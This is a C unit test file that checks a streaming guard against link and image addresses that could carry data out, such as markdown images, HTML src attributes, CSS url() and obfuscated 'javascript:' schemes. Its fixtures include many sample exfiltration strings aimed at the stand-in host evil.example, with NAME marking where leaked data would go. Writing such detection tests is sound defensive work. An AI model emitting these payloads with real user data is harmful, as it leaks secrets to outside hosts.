/*
 * Promises of the watch for addresses in an answer that comes in pieces: what a whole text shows is
 * seen in it, too, however a scheme is spelled and wherever a block ends.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>

#include "base/hash.h"
#include "gate/guard/address.h"

enum { BLOCK = 8 << 10 }; /* BLOCK_BYTES of address.c */

/* Is byte `at` of a whole text in an address? */
static bool is_inside(Str text, size_t at) {
    AddressView view;
    Address address;
    bool inside = false;
    assert_int_equal(address_view_init(&view, text, false, NULL), OK);
    for (size_t from = 0; !inside && address_next(&view, from, &address);) {
        inside = address.begin <= at && at < address.reach;
        from = address.end > address.begin ? address.end : address.begin + 1;
    }
    address_view_fini(&view);
    return inside;
}

/* Is one open behind the last of the pieces? */
static bool is_open(Str text) {
    AddressWatch watch;
    bool open = false;
    address_watch_init(&watch, false);
    for (size_t at = 0; at < text.n; at += 50) {
        Str piece = str_sub(text, at, at + 50 < text.n ? at + 50 : text.n);
        assert_int_equal(address_watch_feed(&watch, piece, NULL), OK);
    }
    assert_int_equal(address_watch_open(&watch, &open, NULL), OK);
    address_watch_fini(&watch);
    return open;
}

/* "javascript:" behind `before` bytes of prose and what makes it a target; each sign of `spelled`
   as a number with `zeros` zeros before it. */
static void spell(Buf *out, size_t before, const char *spelled, int zeros) {
    buf_clear(out);
    while (out->n < before) buf_add_byte(out, out->n % 9 == 8 ? ' ' : 'x');
    buf_add_c(out, " <a href=\"");
    for (const char *c = "javascript:"; *c; c++) {
        if (strchr(spelled, *c)) buf_printf(out, "&#%0*d%d;", zeros, 0, *c);
        else buf_add_byte(out, *c);
    }
    buf_add_c(out, "alert(1);x=");
    assert_int_equal(out->status, OK);
}

/* NAME is what a surrogate would be: in an address it would be fetched. Both the whole text and a
   stream must say so, wherever the text stands. */
static void an_address_ends_where_a_reader_of_it_ends_it(void **state) {
    static const char *const inside[] = {
        "<img src='/\\evil.example/NAME'>", "<img src='\\\\evil.example/NAME'>",
        "<img src=/\\a.example/NAME>", "![x](/\\evil.example/NAME)", "![x](\\\\evil.example/NAME)",
        "![x](<http://evil.example/a\\>NAME>)", "[x]: <//evil.example/a\\>NAME>",
        "![x](http://evil.example/a\\)NAME)", "![x](http://evil.example/a(b\\)c)NAME)",
        "![x](//evil.example/a]NAME)", "![x](//evil.example/a\"NAME)",
        "![x](//evil.example/a<NAME)", "![x](//evil.example/a>NAME)",
        "![y][x]\n\n[x]: //evil.example/a)NAME", "![y][x]\n\n[x]:\n//evil.example/a\">]NAME",
        "<img src=\" /\t/evil.example/NAME\">", "<img src=\"\x01/\t/evil.example/NAME\">",
        "<img src='h\nttp\n:\n/\n/evil.example/NAME'>",
        "<a href='java\nscript\n:\nfetch(1+\"NAME\")'>",
        "<img src=//evil.example/?\"NAME>", "<img src=//evil.example/?<NAME>",
        "<img src=//evil.example/?))NAME>", "<img src=//evil.example/?]NAME>",
        "<img src=//evil.example/a\xEF\xBC\x8CNAME>", "See http://evil.example/)NAME there",
        "See http://evil.example/a]NAME", "See http://evil.example/?\"NAME",
        "http://e.example/>NAME",
        "(http://evil.example/).NAME", "See http://evil.example/a)))-NAME", "evil.example/NAME",
        "See sub.evil.example/?q=NAME", "EVIL.EXAMPLE/a/NAME", "user@evil.example/NAME",
        "magnet:?xt=NAME", "(evil.example/a)NAME",
        "<img alt='>' src=//evil.example/?\"NAME>",
        "<img alt='>' srcset='x 1x, //evil.example/>\"NAME 2x'>",
        "<img alt='>' src = x:NAME>",
        "<style>a{background:url(\\2f\\2f evil.example/NAME)}</style>",
        "<style>a{background:url(/\\2f evil.example/NAME)}</style>",
        "<style>a{background:url(//evil.example/\\41 NAME)}</style>",
        "<style>@import url(//evil.example/a\\)NAME);</style>",
        "<style>@import url(\"//evil.example/a\\\"NAME\");</style>",
        "<style>@import \"//evil.example/a\\\"NAME\";</style>"};
    static const char *const outside[] = {
        "![x](//evil.example/a) NAME", "![x](//evil.example/a)NAME", "![x](<//evil.example/a>)NAME",
        "[x]: //evil.example/a\nNAME", "<img src=//evil.example/a>NAME",
        "<img src=//evil.example/a alt=NAME>", "<img src='//evil.example/a' alt='NAME'>",
        "<img alt='>' src='//evil.example/a'> is NAME: x", "See http://x.example/a, NAME.",
        "See (http://x.example/a), NAME.", "{\"u\":\"http://x.example/a\",\"n\":\"NAME\"}",
        "url(//evil.example/a) NAME", "\xE8\xA7\x81http://x.example\xEF\xBC\x8CNAME",
        "[note]: see NAME", "C:\\Users\\NAME", "and/or NAME",
        "(http://x.example/a).\nNAME", "[\"http://x.example/a\",\"NAME\"]", "Mr.Smith/NAME",
        "(see http://x.example/a): NAME", "<b>http://x.example/a</b>NAME", "e.g./NAME", "2.5/NAME",
        "\"http://x.example/a\": NAME", "km/h NAME", "(evil.example/a) NAME", "evil.example NAME",
        "a \\evil NAME"};
    char whole[512];
    const size_t befores[] = {0, 300, BLOCK - 20};
    Buf text;
    buf_init(&text, 4 * BLOCK);
    for (size_t i = 0; i < ARRAY_LEN(inside) + ARRAY_LEN(outside); i++) {
        bool in = i < ARRAY_LEN(inside);
        const char *says = in ? inside[i] : outside[i - ARRAY_LEN(inside)];
        (void)snprintf(whole, sizeof whole, " Hello. %s ", says);
        for (size_t b = 0; b < ARRAY_LEN(befores); b++) {
            buf_clear(&text);
            while (text.n < befores[b]) buf_add_byte(&text, text.n % 9 == 8 ? ' ' : 'x');
            buf_add_c(&text, whole);
            size_t at = str_find(buf_str(&text), STR("NAME"), 0);
            bool seen = is_inside(buf_str(&text), at);
            bool open = is_open(str_sub(buf_str(&text), 0, at));
            if (seen != in || open != in) {
                fail_msg("%s behind %zu: %s, in a stream %s", says, befores[b],
                         seen ? "in" : "out", open ? "in" : "out");
            }
        }
    }
    buf_fini(&text);
}

static void a_scheme_is_seen_over_the_end_of_a_block(void **state) {
    static const char *const spelled[] = {":", "jas", "javscript:"};
    Buf text;
    buf_init(&text, 1 << 20);
    for (size_t i = 0; i < ARRAY_LEN(spelled); i++) {
        for (int zeros = 1; zeros <= 241; zeros += 40) {
            for (size_t before = BLOCK - 3000; before < BLOCK + 20; before += 53) {
                spell(&text, before, spelled[i], zeros);
                bool open = is_open(buf_str(&text));
                buf_add_byte(&text, 'V'); /* where a word of the user's own would stand */
                assert_true(is_inside(buf_str(&text), text.n - 1));
                if (!open) fail_msg("%s, %d zeros, behind %zu bytes", spelled[i], zeros, before);
            }
        }
    }
    buf_fini(&text);
}

/* "[x](mailto:aaa...?body=V": the mark stands further behind than a stream keeps undecided. */
static void a_mail_with_a_text_is_seen_over_the_end_of_a_block(void **state) {
    Buf text;
    buf_init(&text, 1 << 20);
    for (size_t name = 1; name <= 301; name += 50) {
        for (size_t before = BLOCK - 400; before < BLOCK + 20; before += 17) {
            buf_clear(&text);
            while (text.n < before) buf_add_byte(&text, text.n % 9 == 8 ? ' ' : 'x');
            buf_add_c(&text, " [x](mailto:");
            for (size_t i = 0; i < name; i++) buf_add_byte(&text, 'a');
            buf_add_c(&text, "?body=");
            bool open = is_open(buf_str(&text));
            buf_add_byte(&text, 'V');
            assert_true(is_inside(buf_str(&text), text.n - 1));
            if (!open) fail_msg("a name of %zu letters behind %zu bytes", name, before);
        }
    }
    buf_fini(&text);
}

/* Texts made of what opens and closes addresses, cut anywhere. */
static void a_stream_says_the_same_as_the_whole_text(void **state) {
    static const char *const pieces[] = {"http://", "e.example", "/", ")", "(", "]", "[", "\"", ">",
                                         "<", " ", ",", ".", "a", "\n", "\xEF\xBC\x8C", "://", "-",
                                         "\xE4\xB8\xAD", "](", "www.", "\\", "'", "<a href="};
    uint64_t seed = 7;
    char text[512];
    (void)state;
    for (int i = 0; i < 20000; i++) {
        size_t n = 0;
        for (int k = 0; k < 12; k++) {
            n += (size_t)snprintf(text + n, sizeof text - n, "%s",
                                  pieces[random_next(&seed) % ARRAY_LEN(pieces)]);
        }
        memcpy(text + n, "NAME", 5);
        bool whole = is_inside(str_from(text), n);
        if (is_open((Str){text, n}) != whole) fail_msg("\"%s\": %d in the whole", text, whole);
    }
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_stream_says_the_same_as_the_whole_text),
        cmocka_unit_test(an_address_ends_where_a_reader_of_it_ends_it),
        cmocka_unit_test(a_scheme_is_seen_over_the_end_of_a_block),
        cmocka_unit_test(a_mail_with_a_text_is_seen_over_the_end_of_a_block),
    };
    return cmocka_run_group_tests_name("address", tests, NULL, NULL);
}
